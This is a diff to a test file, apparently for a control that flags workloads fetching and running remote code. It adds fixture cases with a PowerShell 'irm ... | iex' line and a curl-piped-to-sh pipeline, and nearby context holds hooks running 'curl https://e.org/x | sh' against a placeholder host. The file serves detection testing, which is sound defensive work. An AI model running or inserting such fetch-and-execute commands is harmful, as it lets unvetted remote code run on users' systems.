@@ -48,6 +48,25 @@ describeControl(workloadNothingFetchedRun, fetching, {
       },
     },
     'a package of a hook': declaredWith(hookOf({ command: ['go', 'run', 'e.org/x@latest'] })),
+    'a text of PowerShell that is mounted': {
+      facts: {
+        starts: [{ by: 'file', words: ['pwsh', '-c', 'irm https://e.org/x | iex'], commands: [] }],
+      },
+    },
+    'a text that is mounted': {
+      facts: {
+        starts: [
+          {
+            by: 'command',
+            words: ['sh', '/c'],
+            commands: [
+              { words: ['curl', 'https://e.org/x'], line: 1 },
+              { words: ['sh'], line: 1, input: [0, 1] },
+            ],
+          },
+        ],
+      },
+    },
     'a hook of one text': declaredWith(hookOf({ command: ['curl https://e.org/x | sh'] })),
     'one on the host': declaredWith(
       hookOf({ command: ['curl https://e.org/x | sh'], name: 'initializeCommand', onHost: true }),
